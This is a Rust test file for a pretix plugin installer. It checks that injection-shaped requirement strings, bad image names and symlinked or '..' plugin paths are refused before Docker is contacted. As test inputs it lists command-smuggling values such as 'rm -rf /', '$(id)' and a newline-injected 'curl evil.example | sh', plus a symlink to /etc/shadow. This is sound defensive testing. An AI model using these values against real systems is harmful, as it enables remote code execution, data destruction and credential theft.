//! Bad input is refused before anything is read from Docker or built: exit 2, the field named.
//! The documents point at a Docker socket that does not exist, so a refusal that came from
//! contacting Docker would show as exit 1 instead.

use std::os::unix::fs::symlink;
use std::process::Command;

use pretix_testkit::{ToolRun, run_tool};
use serde_json::{Value, json};

use crate::support::write_wheel;

const NO_DOCKER: &str = "unix:///nonexistent/pretix-plugin-test/docker.sock";

fn run(root: &std::path::Path, verb: &str, plugins: Value) -> ToolRun {
    let document = json!({
        "container": {"image": "pretix/standalone:stable", "docker_host": NO_DOCKER},
        "plugins": plugins,
    });
    run_tool(
        Command::new(env!("CARGO_BIN_EXE_pretix-plugin")).args([verb, "--root", &root.display().to_string()]),
        &document,
    )
}

#[test]
fn injection_shaped_requirement_strings_are_refused() {
    let root = tempfile::tempdir().expect("tempdir");
    for (package, expected) in [
        (json!("pretix-pages; rm -rf /"), "whitespace"),
        (json!("pretix-pages;id"), "environment marker"),
        (json!("--index-url=https://evil.example/simple"), "URL"),
        (json!("--extra-index-url=evil"), "not a package name"),
        (json!("pretix-pages\nRUN curl evil.example | sh"), "U+000A"),
        (json!("pretix-pages\r"), "U+000D"),
        (json!("pretix-pages\u{2028}"), "U+2028"),
        (json!("pretix-pages$(id)"), "'$'"),
        (json!("pretix-pages`id`"), "'`'"),
        (json!("pretix-pages'&&id&&'"), "'\\''"),
        (json!("pretix-pages\\"), "'\\\\'"),
        (json!("pretix-pages @ https://evil.example/x.whl"), "whitespace"),
        (json!("git+https://evil.example/pretix-x"), "URL"),
        (json!("pretix-pages==1.0 --pre"), "whitespace"),
        (json!("pretix-pages>=1.*"), "wildcard"),
        (json!(""), "empty"),
        (json!(42), "expected a requirement string"),
        (json!({"pth": "/srv/x.whl"}), "unknown field `pth`"),
    ] {
        for verb in ["apply", "verify"] {
            let outcome = run(root.path(), verb, json!({"packages": ["pretix-pages", package]}));
            assert_eq!(outcome.code, 2, "{package}: {}", outcome.describe());
            assert!(
                outcome.msg().starts_with("plugins.packages[1]") && outcome.msg().contains(expected),
                "{package}: {} should name plugins.packages[1] and say {expected:?}",
                outcome.msg()
            );
        }
    }
}

#[test]
fn the_same_plugin_twice_and_a_bad_repository_are_refused() {
    let root = tempfile::tempdir().expect("tempdir");
    let twice = run(
        root.path(),
        "apply",
        json!({"packages": ["pretix-pages", "Pretix_Pages==1.0"]}),
    );
    assert_eq!(twice.code, 2, "{}", twice.describe());
    assert!(twice.msg().contains("listed already"), "{}", twice.msg());
    for image in ["MyPretix", "mypretix:latest", "my pretix", "-mypretix"] {
        let outcome = run(
            root.path(),
            "apply",
            json!({"packages": ["pretix-pages"], "image": image}),
        );
        assert_eq!(outcome.code, 2, "{image}: {}", outcome.describe());
        assert!(outcome.msg().starts_with("plugins.image"), "{}", outcome.msg());
    }
}

#[test]
fn local_plugins_are_read_without_following_links() {
    let root = tempfile::tempdir().expect("tempdir");
    let srv = root.path().join("srv");
    write_wheel(&srv.join("real"), "pretix_real-1.0-py3-none-any.whl");
    symlink(
        srv.join("real/pretix_real-1.0-py3-none-any.whl"),
        srv.join("pretix_link-1.0-py3-none-any.whl"),
    )
    .expect("symlink");
    symlink(srv.join("real"), srv.join("linked-dir")).expect("symlink");
    let source = srv.join("src/pretix-evil");
    std::fs::create_dir_all(&source).expect("mkdir");
    std::fs::write(source.join("pyproject.toml"), "[project]\nname = \"pretix-evil\"\n").expect("pyproject");
    symlink("/etc/shadow", source.join("secrets.txt")).expect("symlink");
    std::fs::create_dir_all(srv.join("src/no-name")).expect("mkdir");
    for (path, expected) in [
        ("/srv/pretix_link-1.0-py3-none-any.whl", "symbolic link"),
        ("/srv/linked-dir/pretix_real-1.0-py3-none-any.whl", "symbolic link"),
        ("/srv/src/pretix-evil", "secrets.txt is a symbolic link"),
        ("/srv/real/../real/pretix_real-1.0-py3-none-any.whl", "`..`"),
        ("srv/real/pretix_real-1.0-py3-none-any.whl", "not absolute"),
        ("/srv/missing.whl", "does not exist"),
        ("/srv/src/no-name", "give the plugin's distribution name"),
    ] {
        let outcome = run(root.path(), "apply", json!({"packages": [{"path": path}]}));
        assert_eq!(outcome.code, 2, "{path}: {}", outcome.describe());
        assert!(
            outcome.msg().starts_with("plugins.packages[0]") && outcome.msg().contains(expected),
            "{path}: {} should say {expected:?}",
            outcome.msg()
        );
    }
    let renamed = srv.join("real/not-a-wheel.zip");
    std::fs::write(&renamed, b"x").expect("write");
    let outcome = run(
        root.path(),
        "apply",
        json!({"packages": [{"path": "/srv/real/not-a-wheel.zip"}]}),
    );
    assert_eq!(outcome.code, 2, "{}", outcome.describe());
    assert!(outcome.msg().contains("not a wheel file name"), "{}", outcome.msg());
}

#[test]
fn a_daemon_that_does_not_answer_is_a_clear_failure() {
    let root = tempfile::tempdir().expect("tempdir");
    let outcome = run(root.path(), "apply", json!({"packages": ["pretix-pages==1.6.4"]}));
    assert_eq!(outcome.code, 1, "{}", outcome.describe());
    assert!(
        outcome.msg().contains("does not answer") && outcome.msg().contains(NO_DOCKER),
        "{}",
        outcome.msg()
    );
}
